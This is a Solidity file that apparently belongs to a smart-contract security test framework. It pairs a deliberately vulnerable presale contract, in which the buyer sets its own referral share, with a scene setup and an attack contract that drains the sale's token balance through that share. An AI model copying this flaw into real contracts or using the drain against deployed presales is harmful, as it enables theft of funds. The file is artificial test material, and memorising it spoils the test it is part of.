// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// The referrer's share is what the buyer says it is.
contract Presale {
    IERC20 public immutable usd;
    Token public immutable ticket = new Token("TICKET", 18);

    event Bought(address indexed who, uint256 paid, address indexed referrer, uint256 share);

    constructor(IERC20 usd_) {
        usd = usd_;
    }

    function buy(uint256 amount, address referrer, uint256 shareBps) external {
        usd.transferFrom(msg.sender, address(this), amount);
        ticket.mint(msg.sender, amount);
        uint256 share = amount * shareBps / 10_000;
        if (share > 0) usd.transfer(referrer, share);
        emit Bought(msg.sender, amount, referrer, share);
    }
}

contract ReferralFeeScene is Scene {
    Token public usd;
    Presale public sale;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        sale = new Presale(IERC20(address(usd)));
        usd.mint(address(sale), 1_600_000e18);
        _protect(address(sale));
        _loan(IERC20(address(usd)), 60_000e18);
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 1_000_000e18, address(sale));
    }

    function menu(address, uint256 dice) external view override returns (address, uint256, bytes memory) {
        address friend = address(uint160(dice));
        return (address(sale), 0, abi.encodeCall(Presale.buy, (_amount(dice, 50e18, 2_000e18), friend, dice % 500)));
    }
}

contract ReferralFeeAttack is Attack {
    Presale private immutable sale;

    constructor(ReferralFeeScene scene) Attack(scene) {
        sale = scene.sale();
    }

    function _act(uint256, uint256 index, uint256 count) internal override {
        loanToken.approve(address(sale), type(uint256).max);
        uint256 pay = loanAmount / 2;
        uint256 want = (loot0.balanceOf(address(sale)) + pay) / (count - index);
        sale.buy(pay, address(this), want * 10_000 / pay);
    }
}
